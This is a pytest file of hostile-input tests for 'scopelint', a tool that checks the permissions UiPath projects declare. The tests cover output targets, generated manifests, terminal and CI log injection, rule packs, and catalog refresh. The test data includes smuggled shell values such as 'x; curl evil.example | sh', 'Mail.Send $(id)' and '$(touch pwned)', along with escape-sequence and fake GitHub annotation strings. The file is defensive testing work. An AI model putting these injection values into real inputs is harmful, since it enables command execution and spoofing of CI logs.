"""Hostile input, round two (issue 16): where output goes, what generated manifests hold, what reaches terminals and
CI logs. Every write target is made in the test's temporary folder; no system device is ever a target."""

from __future__ import annotations

import json
import os
import resource
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import EXAMPLES, ROOT
from hypothesis import given, settings
from hypothesis import strategies as st

from scopelint.manifest import parse_manifest
from scopelint.manifest_write import new_text
from scopelint.uipath import scan
from scopelint.yamlio import parse_yaml

GOOD = EXAMPLES / "invoice-bot" / "scopelint.yaml"
O365 = "UiPath.MicrosoftOffice365.Activities"
FIX = Path(__file__).resolve().parent / "fixtures" / "uipath"


def _no_crash(run) -> None:
    assert "Traceback" not in run.stderr + run.stdout
    assert "internal error" not in run.stderr


def _report_args(out) -> list:
    return ["check", "--format", "json", "--output", out, GOOD]


# ---------------------------------------------------------------------------------------------- 1. output targets
def test_a_fifo_as_output_is_written_through_to_its_reader(cli, tmp_path):
    fifo = tmp_path / "report.pipe"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader is there before the run (the report < 64 KiB)
    try:
        run = cli(*_report_args(fifo))
        got = os.read(reader, 1 << 20)
    finally:
        os.close(reader)
    assert run.code == 0, run.stderr
    assert fifo.is_fifo()  # still the pipe, not a regular file put in its place
    assert json.loads(got)["manifests"][0]["name"] == "invoice-bot"


def test_a_fifo_nobody_reads_is_refused_not_waited_on(cli, tmp_path):
    fifo = tmp_path / "report.pipe"
    os.mkfifo(fifo)
    run = cli(*_report_args(fifo))
    _no_crash(run)
    assert run.code == 2 and f"{fifo}: is a named pipe that nobody reads" in run.stderr
    assert fifo.is_fifo()


def test_a_symlink_to_a_character_device_stays_a_symlink(cli, tmp_path):
    before = os.stat(os.devnull)
    if not Path(os.devnull).is_char_device():
        pytest.skip("this machine's /dev/null is not a device (something replaced it): nothing safe to point at")
    link = tmp_path / "null.json"
    link.symlink_to(os.devnull)
    run = cli(*_report_args(link))
    assert run.code == 0, run.stderr
    assert link.is_symlink() and os.readlink(link) == os.devnull
    after = os.stat(os.devnull)
    assert (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev) and Path(os.devnull).is_char_device()


def test_a_symlink_to_a_file_replaces_the_file_and_keeps_the_link(cli, tmp_path):
    real = tmp_path / "real.json"
    real.write_text("old")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    run = cli(*_report_args(link))
    assert run.code == 0, run.stderr
    assert link.is_symlink() and json.loads(real.read_text())["manifests"][0]["name"] == "invoice-bot"


def test_a_dangling_symlink_is_refused(cli, tmp_path):
    link = tmp_path / "out.json"
    link.symlink_to(tmp_path / "nowhere" / "x.json")
    run = cli(*_report_args(link))
    _no_crash(run)
    assert run.code == 2 and f"{link}: is a symbolic link to nothing" in run.stderr
    assert link.is_symlink() and not (tmp_path / "nowhere").exists()


def test_a_symlink_to_a_full_device_is_one_external_failure(cli, tmp_path):
    link = tmp_path / "full.json"
    link.symlink_to("/dev/full")
    run = cli(*_report_args(link))
    _no_crash(run)
    assert run.code == 3 and "cannot write: No space left on device" in run.stderr
    assert link.is_symlink()


def test_a_directory_as_output_is_one_external_failure(cli, tmp_path):
    run = cli(*_report_args(tmp_path))
    _no_crash(run)
    assert run.code == 3 and f"{tmp_path}: cannot write: is a directory" in run.stderr
    assert len(run.stderr.splitlines()) == 1


def _limited_file_size() -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (1024, 1024))


def _proc(*args, stdout=subprocess.PIPE) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("SCOPELINT_DEBUG", None)
    return subprocess.run([sys.executable, "-m", "scopelint", *map(str, args)], stdout=stdout,
                          stderr=subprocess.PIPE, text=True, env=env, preexec_fn=_limited_file_size, timeout=120)


def test_a_file_size_limit_on_the_output_is_one_external_failure(tmp_path):
    out = tmp_path / "report.json"
    run = _proc(*_report_args(out))
    assert run.returncode == 3, run.stderr
    assert run.stderr.strip().splitlines() == [f"scopelint: external failure: {out}: cannot write: File too large"]
    assert not out.exists() and list(tmp_path.iterdir()) == []  # no half file, no temporary left behind


def test_a_file_size_limit_on_standard_output_is_one_external_failure(tmp_path):
    with (tmp_path / "stdout.json").open("w") as fh:
        run = _proc("check", "--format", "json", GOOD, stdout=fh)
    assert run.returncode == 3, run.stderr
    assert run.stderr.strip().splitlines() == ["scopelint: external failure: cannot write the output: File too large"]


def test_standard_output_to_a_full_device_is_one_external_failure():
    with open("/dev/full", "w") as full:  # opened for writing only: nothing replaces or changes the device
        run = _proc("check", GOOD, stdout=full)
    assert run.returncode == 3, run.stderr
    assert run.stderr.strip().splitlines() == [
        "scopelint: external failure: cannot write the output: No space left on device"]


# ---------------------------------------------------------------------------------------------- 2. generated manifests
@pytest.fixture(scope="module")
def project():
    return scan(str(FIX / "classic-vb"), _rules()).projects[0]


def _rules():
    from scopelint.rules import load_builtin_rules

    return load_builtin_rules()


@settings(max_examples=300, derandomize=True, deadline=None)
@given(name=st.text(min_size=1, max_size=40) | st.sampled_from([
    "x\u2028registration: app.json", "x\u0085accept: []", "x\nregistration: a.json", "x\r\n- SendMail",
    "a\x1b]8;;http://evil\x07b", "\u202etxt.exe", "# not a comment", "'\"\\", "\ufeffBOM", "\U0001f600",
    "yes", "012", "a: b", "- x", "{x}", "*alias", "&anchor", "!tag", "%directive", "@x", "`x"]))
def test_any_project_name_round_trips_and_injects_no_key(project, name):
    text = new_text(project._replace(name=name), [], [])
    doc = parse_yaml(text, "scopelint.yaml")
    assert doc["name"] == (name if name.strip() else "classic-vb")
    assert list(doc) == ["scopelint", "name", "auth", "project", "activities"]
    assert text.count("\n") == len(text.splitlines()) and all("\u2028" not in ln for ln in text.splitlines())
    parse_manifest(doc, "scopelint.yaml")


@pytest.mark.parametrize("name", ["Robot\u2028registration: app.json\u2028accept:", "Robot\x85registration: x.json",
                                  "Robot\x00\x1b[2J", "Robot\nactivities: []"])
def test_scan_write_keeps_an_odd_project_name_as_text(cli, tmp_path, name):
    folder = tmp_path / "robot"
    shutil.copytree(FIX / "classic-vb", folder)
    doc = json.loads((folder / "project.json").read_text())
    doc["name"] = name
    (folder / "project.json").write_text(json.dumps(doc))
    run = cli("scan", folder, "--write")
    assert run.code == 0, run.stderr
    manifest = parse_yaml((folder / "scopelint.yaml").read_text(), "m")
    assert manifest["name"] == name and "registration" not in manifest and "accept" not in manifest
    assert len(manifest["activities"]) == 3


def test_a_disabled_activity_name_cannot_leave_its_comment(tmp_path, project):
    evil = "Evil\u2028registration: app.json"
    text = new_text(project, [], [evil])
    doc = parse_yaml(text, "m")
    assert "registration" not in doc and "\\u2028registration" in text


# ---------------------------------------------------------------------------------------------- 3. terminals, logs
HOSTILE = "x\x1b]0;pwned\x07\x1b[31m\u202e\n::error::fake\u2028::stop-commands::t\x85z"


def _assert_neutral(text: str) -> None:
    for bad in ("\x1b", "\x07", "\u202e", "\u2028", "\x85"):
        assert bad not in text
    for line in text.splitlines():
        assert not line.lstrip().startswith("::"), line


def _hostile_manifest(tmp_path: Path) -> Path:
    path = tmp_path / "scopelint.yaml"
    path.write_text(json.dumps({"scopelint": 1, "name": HOSTILE, "activities": [HOSTILE, "SendMail"]}))
    return path


def test_text_and_markdown_reports_neutralise_controls_and_newlines(cli, tmp_path):
    manifest = _hostile_manifest(tmp_path)
    for fmt in ("text", "markdown"):
        run = cli("check", "--format", fmt, manifest)
        _no_crash(run)
        _assert_neutral(run.stdout)
        _assert_neutral(run.stderr)
    text = cli("check", manifest).stdout
    assert "\\x1b]0;pwned\\x07" in text and "\\n::error::fake" in text


def test_github_annotations_cannot_be_injected(cli, tmp_path):
    run = cli("check", "--format", "github", _hostile_manifest(tmp_path))
    lines = run.stdout.splitlines()
    assert lines and all(line.startswith(("::error ", "::warning ", "::notice ")) for line in lines), lines
    assert not any(bad in run.stdout for bad in ("\x1b", "\u202e", "\u2028", "\x85"))


def test_machine_formats_keep_exact_values(cli, tmp_path):
    run = cli("check", "--format", "json", _hostile_manifest(tmp_path))
    assert json.loads(run.stdout)["manifests"][0]["name"] == HOSTILE


def test_a_hostile_folder_name_is_neutral_in_scan_output_and_warnings(cli, tmp_path):
    folder = tmp_path / "::error::pwned \x1b[2J"
    shutil.copytree(FIX / "classic-vb", folder)
    (folder / "Broken\x1b]0;t\x07.xaml").write_bytes(b"\x00\x01")
    run = cli("scan", tmp_path)
    _no_crash(run)
    _assert_neutral(run.stdout)
    _assert_neutral(run.stderr)
    assert "warning" in run.stderr and "::error::pwned \\x1b[2J" in run.stdout


def test_an_error_message_is_one_neutral_line(cli, tmp_path):
    bad = tmp_path / "bad\n::error::x\x1b[2J.yaml"
    bad.write_text("scopelint: 2\n")
    run = cli("check", bad)
    assert run.code == 2
    assert all(line.startswith(f"scopelint: error: {tmp_path}/bad\\n::error::x\\x1b[2J.yaml:1:")
               for line in run.stderr.splitlines())
    _assert_neutral(run.stderr)


def test_a_non_utf8_path_is_shown_as_its_bytes_in_text_and_kept_in_json(cli, tmp_path):
    folder = Path(os.fsdecode(bytes(tmp_path) + b"/robot-\xff"))
    shutil.copytree(FIX / "classic-vb", folder)
    text = cli("scan", tmp_path)
    _no_crash(text)
    assert text.code == 0 and "robot-\\xff" in text.stdout
    for fmt in ("json",):
        run = cli("scan", tmp_path, "--format", fmt)
        _no_crash(run)
        assert run.code == 0


# ---------------------------------------------------------------------------------------------- 4. rule packs
SHADOW_PACK = """\
scopelint-rulepack: 1
pack: contoso
rules:
  - class: Contoso.Mail.QuietSend
    display_name: Send Mail
    group: Custom
    generation: custom
    kind: activity
    delegated: {any_of: [[User.Read]], provenance: derived}
    application: {any_of: [[User.Read]], provenance: derived}
    sources: [https://git.contoso.example/rpa/lib]
"""


def test_a_pack_taking_a_built_in_display_name_is_refused(cli, tmp_path):
    pack = tmp_path / "pack.yaml"
    pack.write_text(SHADOW_PACK)
    run = cli("check", "--rules", pack, _plain_manifest(tmp_path))
    _no_crash(run)
    assert run.code == 2 and "uses the name 'Send Mail' of the loaded rule UiPath.MicrosoftOffice365" in run.stderr


def test_an_override_takes_the_name_and_is_announced(cli, tmp_path):
    pack = tmp_path / "pack.yaml"
    pack.write_text(SHADOW_PACK.replace("    sources:", "    overrides: true\n    sources:"))
    run = cli("check", "--rules", pack, "--format", "json", _plain_manifest(tmp_path))
    assert f"rule pack {pack}: Contoso.Mail.QuietSend overrides UiPath.MicrosoftOffice365.Activities.Mail.SendMail" \
        in run.stderr
    required = json.loads(run.stdout)["manifests"][0]["required"]
    assert [r["permission"] for r in required] == ["User.Read"]  # the override is what the run used


def _plain_manifest(tmp_path: Path) -> Path:
    path = tmp_path / "scopelint.yaml"
    path.write_text("scopelint: 1\nname: robot\nactivities:\n  - Send Mail\n")
    return path


# ---------------------------------------------------------------------------------------------- 5. readers
@pytest.mark.parametrize("kind", ["manifest", "registration", "config"])
def test_a_fifo_named_like_an_input_is_refused_not_waited_on(cli_proc, tmp_path, kind):
    fifo = tmp_path / {"manifest": "scopelint.yaml", "registration": "app.json", "config": "conf.yaml"}[kind]
    os.mkfifo(fifo)
    args = {"manifest": ["check", fifo], "registration": ["check", "-r", fifo, GOOD],
            "config": ["check", "--config", fifo, GOOD]}[kind]
    run = cli_proc(*args, timeout=60)  # a hang guard, not a speed assertion
    assert run.code == 2, run.stderr
    assert run.stderr.strip().splitlines() == [
        f"scopelint: error: {fifo}: is a named pipe (FIFO), not a file; not read (it could wait forever)"]


def test_a_fifo_named_project_json_is_a_diagnostic(cli_proc, tmp_path):
    folder = tmp_path / "robot"
    shutil.copytree(FIX / "classic-vb", folder)
    (folder / "project.json").unlink()
    os.mkfifo(folder / "project.json")
    run = cli_proc("scan", folder, timeout=60)
    assert f"{folder / 'project.json'}: is a named pipe" in run.stderr and run.code in (0, 2), run.stderr


def test_a_registration_from_an_anonymous_pipe_is_still_read(tmp_path):
    reg = (EXAMPLES / "invoice-bot" / "app-registration.json")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    run = subprocess.run([sys.executable, "-m", "scopelint", "check", "-r", "/dev/stdin", "--format", "json", GOOD],
                         input=reg.read_text() if reg.exists() else "[]", capture_output=True, text=True, env=env,
                         timeout=60)
    assert run.returncode in (0, 1), run.stderr
    assert json.loads(run.stdout)["manifests"][0]["registration"] == "/dev/stdin"


def test_a_40000_entry_registration_keeps_every_line(tmp_path):
    from scopelint.catalog import load_catalog
    from scopelint.registration import load_registration

    access = [{"id": f"00000000-0000-0000-0000-{i:012d}", "type": "Scope"} for i in range(40_000)]
    access.append({"id": "00000000-0000-0000-0000-000000000007", "type": "Scope"})  # a repeat: its own line
    path = tmp_path / "app.json"
    path.write_text(json.dumps({"requiredResourceAccess": [
        {"resourceAppId": "00000003-0000-0000-c000-000000000000", "resourceAccess": access}]}, indent=2))
    reg = load_registration(path, load_catalog())
    lines = path.read_text().splitlines()
    assert len(reg.unresolved) == 40_001
    for bad in (reg.unresolved[0], reg.unresolved[7], reg.unresolved[39_999], reg.unresolved[40_000]):
        assert bad.raw in lines[bad.line - 1]
    assert reg.unresolved[40_000].line > reg.unresolved[39_999].line > reg.unresolved[7].line


WORKFLOW_HEAD = ('<Activity xmlns="http://schemas.microsoft.com/netfx/2009/xaml/activities" '
                 'xmlns:u="clr-namespace:UiPath.MicrosoftOffice365.Activities.Mail;'
                 'assembly=UiPath.MicrosoftOffice365.Activities">\n<Sequence>\n')


def test_a_flood_of_repeated_activities_is_capped_without_hiding_a_new_one(cli, tmp_path):
    from scopelint.uipath.xaml import MAX_USES_PER_FILE

    folder = tmp_path / "robot"
    folder.mkdir()
    (folder / "project.json").write_text('{"name": "Robot", "dependencies": '
                                         '{"UiPath.MicrosoftOffice365.Activities": "[2.6.28]"}}')
    flood = "<u:SendMail/>\n" * (MAX_USES_PER_FILE * 3)
    (folder / "Main.xaml").write_text(WORKFLOW_HEAD + flood + "<u:GetMail/>\n</Sequence>\n</Activity>\n")
    run = cli("scan", folder, "--format", "json", "-j", "1")
    activities = json.loads(run.stdout)["projects"][0]["activities"]
    assert len(activities) == MAX_USES_PER_FILE + 1
    assert activities[-1]["class"].endswith("Mail.GetMail") and activities[-1]["line"] == MAX_USES_PER_FILE * 3 + 3
    assert "30,001 activity uses, more than 10,000 in one workflow: 20,000 that repeat" in run.stderr


FORMATS = ["text", "json", "sarif", "junit", "github", "markdown", "html", "csv"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_non_utf8_manifest_path_in_every_format(cli, tmp_path, fmt):
    folder = Path(os.fsdecode(bytes(tmp_path) + b"/robot-\xff\x1b"))
    folder.mkdir()
    manifest = folder / "scopelint.yaml"
    manifest.write_text("scopelint: 1\nname: robot\nactivities:\n  - SendMail\n  - NoSuchActivity\n")
    out = tmp_path / f"report.{fmt}"
    for args in (["--format", fmt], ["--format", fmt, "--output", out]):
        run = cli("check", *args, manifest)
        _no_crash(run)
        assert run.code == 1, run.stderr
    if fmt in ("text", "github"):
        assert "robot-\\xff\\x1b" in cli("check", "--format", fmt, manifest).stdout
    elif fmt in ("json", "html", "csv"):
        assert b"robot-\xff" in out.read_bytes()  # machine formats keep the file system's bytes
    elif fmt == "sarif":
        assert b"robot-%FF%1B" in out.read_bytes()  # a file URI, percent-encoded


# ---------------------------------------------------------------------------------------------- 8. smaller
GRAPH = "00000003-0000-0000-c000-000000000000"


def _registration_findings(cli, tmp_path, access) -> list[str]:
    reg = tmp_path / "app.json"
    reg.write_text(json.dumps({"requiredResourceAccess": [{"resourceAppId": GRAPH, "resourceAccess": access}]},
                              ensure_ascii=False))
    run = cli("check", "-r", reg, "--format", "json", _plain_manifest(tmp_path))
    _no_crash(run)
    return [f"{f['code']} {f['message']}" for f in json.loads(run.stdout)["findings"] if f["code"] == "SL202"]


@pytest.mark.parametrize("name, char", [("Tas\u212a.Read", "U+212A"), ("Mail.Send\u00a0", "U+00A0"),
                                        ("\u3000Mail.Send", "U+3000"), ("Mail.Send\u2028", "U+2028"),
                                        ("User.Read\u0085", "U+0085")])
def test_look_alike_permission_names_are_unknown_not_accepted(cli, tmp_path, name, char):
    findings = _registration_findings(cli, tmp_path, [{"id": name, "type": "Scope"}])
    assert len(findings) == 1 and f"holds the character {char}" in findings[0], findings


def test_a_role_guid_listed_as_scope_is_the_wrong_type(cli, tmp_path):
    from scopelint.catalog import load_catalog

    role = load_catalog().get("application", "Mail.Send").id
    findings = _registration_findings(cli, tmp_path, [{"id": role, "type": "Scope"}])
    assert findings == [f"SL202 '{role}': wrong type: this is the application permission Mail.Send, listed with "
                        "type 'Scope' (use 'Role')"]


@pytest.mark.parametrize("written, kept", [("012", "012"), ("0x1F", "0x1F"), ("1_000", "1_000"), ("yes", "yes"),
                                           ("42", "42"), ("2027-01-01", "2027-01-01"), ("'012'", "012")])
def test_a_ticket_keeps_its_text(tmp_path, written, kept):
    from scopelint.manifest import load_manifest

    path = tmp_path / "scopelint.yaml"
    path.write_text(f"scopelint: 1\nname: r\nactivities: []\naccept:\n  - permission: Mail.Send\n    reason: r\n"
                    f"    ticket: {written}\n")
    assert load_manifest(path).accept[0].ticket == kept


def test_deep_nesting_within_the_highest_max_depth_is_exit_2_or_read_never_a_crash(cli, tmp_path):
    (tmp_path / ".scopelint.yaml").write_text("limits:\n  max_depth: 200\n")
    manifest = tmp_path / "scopelint.yaml"
    manifest.write_text("scopelint: 1\nname: r\nactivities: []\nproject: " + "[" * 199 + "]" * 199 + "\n")
    run = cli("check", "--config", tmp_path / ".scopelint.yaml", manifest)
    _no_crash(run)
    assert run.code == 2 and len(run.stderr.splitlines()) == 1


# ---------------------------------------------------------------------------------------------- 7. catalog refresh
SP_ROLE = {"id": "b633e1c5-b582-4048-a93e-9f11b44c7e96", "value": "Mail.Send", "displayName": "Send mail"}
SP_SCOPE = {"id": "e383f46e-2787-4529-855e-0e479a3ffac0", "value": "Mail.Send", "type": "User",
            "adminConsentDisplayName": "Send mail as a user"}


@pytest.mark.parametrize("field, value, needle", [
    ("id", "x; curl evil.example | sh", "'id' must be a GUID"),
    ("id", "e383f46e-2787-4529-855e-0e479a3ffac0 --yes", "'id' must be a GUID"),
    ("id", 12, "'id' must be a GUID"),
    ("value", "Mail.Send $(id)", "'value' must be a permission name"),
    ("value", "Mail\u2028Send", "'value' must be a permission name"),
    ("value", "Tas\u212a.Read", "'value' must be a permission name"),
    ("value", None, "'value' must be a permission name"),
    ("isEnabled", "yes", "'isEnabled' must be true or false"),
    ("adminConsentDisplayName", "Send\n::error::x", "must be one line of text"),
])
def test_a_refresh_input_with_a_bad_field_is_refused_naming_the_entry(cli, tmp_path, field, value, needle):
    src = tmp_path / "sp.json"
    src.write_text(json.dumps({"oauth2PermissionScopes": [SP_SCOPE, {**SP_SCOPE, field: value}],
                               "appRoles": [SP_ROLE]}))
    run = cli("catalog", "refresh", "--from", src, "--output", tmp_path / "out")
    _no_crash(run)
    assert run.code == 2, run.stderr
    assert run.stderr.startswith(f"scopelint: error: {src}: delegated permission 2") and needle in run.stderr
    assert not (tmp_path / "out" / "catalog.json").exists()


@pytest.mark.parametrize("level", [True, 0, 9, "high", 2.5])
def test_a_privilege_level_out_of_range_is_refused(cli, tmp_path, level):
    src = tmp_path / "sp.json"
    src.write_text(json.dumps({"oauth2PermissionScopes": [SP_SCOPE], "appRoles": [SP_ROLE]}))
    paths = tmp_path / "permissions.json"
    paths.write_text(json.dumps({"permissions": {"Mail.Send": {"schemes": {"DelegatedWork": {"privilegeLevel": level}},
                                                               "pathSets": []}}}))
    run = cli("catalog", "refresh", "--from", src, "--paths", paths, "--output", tmp_path / "out")
    _no_crash(run)
    if isinstance(level, int):  # True, 0 and 9 reach the catalog and are refused there
        assert run.code == 2 and "'privilege' must be a level from 1 to 5" in run.stderr, run.stderr
    else:  # not a number: Microsoft's document gives no level for it
        assert run.code == 0, run.stderr
        assert json.loads((tmp_path / "out" / "catalog.json").read_text())["delegated"][0]["privilege"] is None


def test_a_cached_catalog_that_does_not_load_is_announced_and_the_bundled_one_used(cli_proc, tmp_path):
    cache = tmp_path / "cache"
    cache.mkdir()
    doc = json.loads((ROOT / "scopelint" / "data" / "catalog.json").read_text())
    doc["delegated"][0]["id"] = "$(touch pwned)"
    (cache / "catalog.json").write_text(json.dumps(doc))
    run = cli_proc("check", GOOD, env={"SCOPELINT_CACHE": str(cache)})
    assert f"scopelint: warning: the refreshed permission catalog {cache / 'catalog.json'} does not load " \
        "(delegated permission 1: 'id' must be a GUID" in run.stderr
    assert "using the bundled one" in run.stderr and run.code in (0, 1)
    info = cli_proc("catalog", "info", env={"SCOPELINT_CACHE": str(cache)})
    assert "origin:    bundled" in info.stdout and "does not load" in info.stderr


def test_every_az_argument_is_one_shell_word(cli, tmp_path):
    import shlex

    run = cli("scopes", GOOD, "--format", "az")
    assert run.code == 0, run.stderr
    commands = [shlex.split(line) for line in run.stdout.splitlines() if line.startswith("az ")]
    assert commands
    for words in commands:
        if "--api-permissions" in words:
            value = words[words.index("--api-permissions") + 1]
            guid = value.split("=")[0]
            assert len(guid) == 36 and value in (guid, f"{guid}=Scope", f"{guid}=Role")
